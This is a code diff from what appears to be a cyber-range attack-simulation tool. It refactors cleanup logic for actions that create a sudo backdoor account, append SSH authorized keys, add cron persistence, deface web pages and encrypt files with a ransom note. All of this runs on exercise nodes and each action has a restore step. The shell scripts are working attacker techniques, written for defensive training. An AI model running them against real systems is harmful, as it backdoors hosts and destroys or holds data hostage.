@@ -1,6 +1,6 @@
 /** Persistence, collection + exfiltration, defacement and recoverable ransomware. */
 import { z } from 'zod';
-import { defineAction } from './types.js';
+import { defineAction, type Cleanup, type CleanupContext } from './types.js';
 import { c2Entries, ensureC2 } from './implant.js';
 import { classifyCurl, digest, q, sha256, writeFileScript } from './util.js';
 
@@ -26,38 +26,59 @@ export const persistAction = defineAction({
       })
       .strict(),
   ]),
+  cleanupOf: persistCleanup,
   async run(ctx, p) {
-    let script: string;
-    let undo: string;
-    let what: string;
-    if (p.mechanism === 'account') {
-      script = `useradd -m -s /bin/bash ${q(p.user)} && printf '%s:%s\\n' ${q(p.user)} ${q(p.password)} | chpasswd${p.sudo ? ` && usermod -aG sudo ${q(p.user)}` : ''} && id ${q(p.user)}`;
-      undo = `userdel -r ${q(p.user)} 2>/dev/null || userdel ${q(p.user)}`;
-      what = `account ${p.user}${p.sudo ? ' (sudo)' : ''}`;
-    } else if (p.mechanism === 'ssh-key') {
-      if (!/^(ssh|ecdsa)-[a-z0-9-]+ [A-Za-z0-9+/=]+/.test(p.publicKey))
-        return { outcome: 'failed', reason: 'publicKey is not an OpenSSH public key line', evidence: '' };
-      const home = `$(getent passwd ${q(p.user)} | cut -d: -f6)`;
-      const line = p.publicKey.trim();
-      script = `h=${home} && [ -n "$h" ] && mkdir -p "$h/.ssh" && printf '%s\\n' ${q(line)} >> "$h/.ssh/authorized_keys" && chown -R ${q(p.user)} "$h/.ssh" && chmod 700 "$h/.ssh" && chmod 600 "$h/.ssh/authorized_keys" && echo "$h/.ssh/authorized_keys"`;
-      undo = `h=${home} && f="$h/.ssh/authorized_keys" && [ -f "$f" ] && grep -vxF ${q(line)} "$f" > "$f.enshu" ; cat "$f.enshu" > "$f" && rm -f "$f.enshu"`;
-      what = `SSH key for ${p.user}`;
-    } else {
-      const line = `${p.schedule} ${p.command}`;
-      script = `(crontab -u ${q(p.user)} -l 2>/dev/null; printf '%s\\n' ${q(line)}) | crontab -u ${q(p.user)} - && crontab -u ${q(p.user)} -l`;
-      undo = `crontab -u ${q(p.user)} -l 2>/dev/null | grep -vxF ${q(line)} | crontab -u ${q(p.user)} -`;
-      what = `cron job for ${p.user}: ${line}`;
-    }
-    const r = await ctx.range.sh(ctx.node, script);
+    const x = persistScripts(p);
+    if (!x) return { outcome: 'failed', reason: 'publicKey is not an OpenSSH public key line', evidence: '' };
+    const r = await ctx.range.sh(ctx.node, x.script);
+    const cleanup = persistCleanup(ctx, p);
     return {
       outcome: r.exitCode === 0 ? 'succeeded' : 'failed',
       ...(r.exitCode === 0 ? {} : { reason: `exit ${r.exitCode}: ${r.stderr.trim()}` }),
-      evidence: digest(`persistence on ${ctx.node}: ${what}`, r.stdout),
+      evidence: digest(`persistence on ${ctx.node}: ${x.what}`, r.stdout),
       output: r.stdout,
-      cleanup: { label: `remove ${what} on ${ctx.node}`, run: async () => void (await ctx.range.sh(ctx.node, undo)) },
+      ...(cleanup ? { cleanup } : {}),
     };
   },
 });
+
+function persistCleanup(ctx: CleanupContext, p: PersistParams): Cleanup | undefined {
+  const x = persistScripts(p);
+  return (
+    x && { label: `remove ${x.what} on ${ctx.node}`, run: async () => void (await ctx.range.sh(ctx.node, x.undo)) }
+  );
+}
+
+type PersistParams =
+  | { mechanism: 'account'; user: string; password: string; sudo: boolean }
+  | { mechanism: 'ssh-key'; user: string; publicKey: string }
+  | { mechanism: 'cron'; user: string; schedule: string; command: string };
+
+/** The script that leaves the persistence, the one that removes it, and what it is in words. */
+function persistScripts(p: PersistParams): { script: string; undo: string; what: string } | undefined {
+  if (p.mechanism === 'account')
+    return {
+      script: `useradd -m -s /bin/bash ${q(p.user)} && printf '%s:%s\\n' ${q(p.user)} ${q(p.password)} | chpasswd${p.sudo ? ` && usermod -aG sudo ${q(p.user)}` : ''} && id ${q(p.user)}`,
+      undo: `userdel -r ${q(p.user)} 2>/dev/null || userdel ${q(p.user)}`,
+      what: `account ${p.user}${p.sudo ? ' (sudo)' : ''}`,
+    };
+  if (p.mechanism === 'ssh-key') {
+    if (!/^(ssh|ecdsa)-[a-z0-9-]+ [A-Za-z0-9+/=]+/.test(p.publicKey)) return undefined;
+    const home = `$(getent passwd ${q(p.user)} | cut -d: -f6)`;
+    const line = p.publicKey.trim();
+    return {
+      script: `h=${home} && [ -n "$h" ] && mkdir -p "$h/.ssh" && printf '%s\\n' ${q(line)} >> "$h/.ssh/authorized_keys" && chown -R ${q(p.user)} "$h/.ssh" && chmod 700 "$h/.ssh" && chmod 600 "$h/.ssh/authorized_keys" && echo "$h/.ssh/authorized_keys"`,
+      undo: `h=${home} && f="$h/.ssh/authorized_keys" && [ -f "$f" ] && grep -vxF ${q(line)} "$f" > "$f.enshu" ; cat "$f.enshu" > "$f" && rm -f "$f.enshu"`,
+      what: `SSH key for ${p.user}`,
+    };
+  }
+  const line = `${p.schedule} ${p.command}`;
+  return {
+    script: `(crontab -u ${q(p.user)} -l 2>/dev/null; printf '%s\\n' ${q(line)}) | crontab -u ${q(p.user)} - && crontab -u ${q(p.user)} -l`,
+    undo: `crontab -u ${q(p.user)} -l 2>/dev/null | grep -vxF ${q(line)} | crontab -u ${q(p.user)} -`,
+    what: `cron job for ${p.user}: ${line}`,
+  };
+}
 
 export const exfiltrateAction = defineAction({
   kind: 'exfiltrate',
@@ -167,9 +188,9 @@ export const defaceAction = defineAction({
       html: z.string().min(1),
     })
     .strict(),
+  cleanupOf: defaceCleanup,
   async run(ctx, p) {
-    const page = `${p.docroot.replace(/\/$/, '')}/${p.page}`;
-    const backup = `/var/lib/enshu-attack/deface/${ctx.step}`;
+    const { page, backup } = defacePaths(ctx.step, p);
     const r = await ctx.range.sh(
       ctx.node,
       `[ -f ${q(page)} ] || { echo "no page ${page}"; exit 1; }; mkdir -p ${backup} && { [ -f ${backup}/original ] || cp -p ${q(page)} ${backup}/original; } && sha256sum ${q(page)} | cut -c1-64 && ${writeFileScript(page, p.html)} && sha256sum ${q(page)} | cut -c1-64`,
@@ -179,17 +200,27 @@ export const defaceAction = defineAction({
       outcome: r.exitCode === 0 ? 'succeeded' : 'failed',
       ...(r.exitCode === 0 ? {} : { reason: r.stdout.trim() || r.stderr.trim() }),
       evidence: `defaced ${page} on ${ctx.node}: sha256 ${before} → ${after}`,
-      cleanup: {
-        label: `restore ${page} on ${ctx.node}`,
-        run: async () =>
-          void (await ctx.range.sh(
-            ctx.node,
-            `[ -f ${backup}/original ] && cp -p ${backup}/original ${q(page)}; rm -rf ${backup}; rmdir /var/lib/enshu-attack/deface /var/lib/enshu-attack 2>/dev/null; true`,
-          )),
-      },
+      cleanup: defaceCleanup(ctx, p),
     };
   },
 });
+
+function defaceCleanup(ctx: CleanupContext, p: { docroot: string; page: string }): Cleanup {
+  const { page, backup } = defacePaths(ctx.step, p);
+  return {
+    label: `restore ${page} on ${ctx.node}`,
+    run: async () =>
+      void (await ctx.range.sh(
+        ctx.node,
+        `[ -f ${backup}/original ] && cp -p ${backup}/original ${q(page)}; rm -rf ${backup}; rmdir /var/lib/enshu-attack/deface /var/lib/enshu-attack 2>/dev/null; true`,
+      )),
+  };
+}
+
+/** The defaced page and where the original is kept (per step, so a replay keeps the first original). */
+function defacePaths(step: string, p: { docroot: string; page: string }): { page: string; backup: string } {
+  return { page: `${p.docroot.replace(/\/$/, '')}/${p.page}`, backup: `/var/lib/enshu-attack/deface/${step}` };
+}
 
 export const encryptAction = defineAction({
   kind: 'encrypt',
@@ -209,6 +240,7 @@ export const encryptAction = defineAction({
       noteName: z.string().default('README-DECRYPT.txt'),
     })
     .strict(),
+  cleanupOf: encryptCleanup,
   async run(ctx, p) {
     const names = p.patterns.map((x) => `-name ${q(x)}`).join(' -o ');
     const script = [
@@ -220,7 +252,6 @@ export const encryptAction = defineAction({
     ].join('\n');
     const r = await ctx.range.sh(ctx.node, script, { timeoutMs: 120_000 });
     const count = Number(/count=(\d+)/.exec(r.stdout)?.[1] ?? 0);
-    const decrypt = `cd ${q(p.dir)} && for f in $(find . -type f -name '*${p.suffix}'); do ENSHU_K=${q(p.key)} openssl enc -d -aes-256-cbc -pbkdf2 -pass env:ENSHU_K -in "$f" -out "\${f%${p.suffix}}" && rm -f "$f"; done; rm -f ${q(p.noteName)}`;
     return {
       outcome: r.exitCode === 0 && count > 0 ? 'succeeded' : 'failed',
       ...(r.exitCode !== 0
@@ -233,10 +264,19 @@ export const encryptAction = defineAction({
         r.stdout,
       ),
       output: r.stdout,
-      cleanup: {
-        label: `decrypt ${p.dir} on ${ctx.node} with the exercise's key`,
-        run: async () => void (await ctx.range.sh(ctx.node, decrypt, { timeoutMs: 120_000 })),
-      },
+      cleanup: encryptCleanup(ctx, p),
     };
   },
 });
+
+/** Decrypts what the step encrypted with the key the exercise keeps, and removes the note. */
+function encryptCleanup(
+  ctx: CleanupContext,
+  p: { dir: string; key: string; suffix: string; noteName: string },
+): Cleanup {
+  const decrypt = `cd ${q(p.dir)} && for f in $(find . -type f -name '*${p.suffix}'); do ENSHU_K=${q(p.key)} openssl enc -d -aes-256-cbc -pbkdf2 -pass env:ENSHU_K -in "$f" -out "\${f%${p.suffix}}" && rm -f "$f"; done; rm -f ${q(p.noteName)}`;
+  return {
+    label: `decrypt ${p.dir} on ${ctx.node} with the exercise's key`,
+    run: async () => void (await ctx.range.sh(ctx.node, decrypt, { timeoutMs: 120_000 })),
+  };
+}
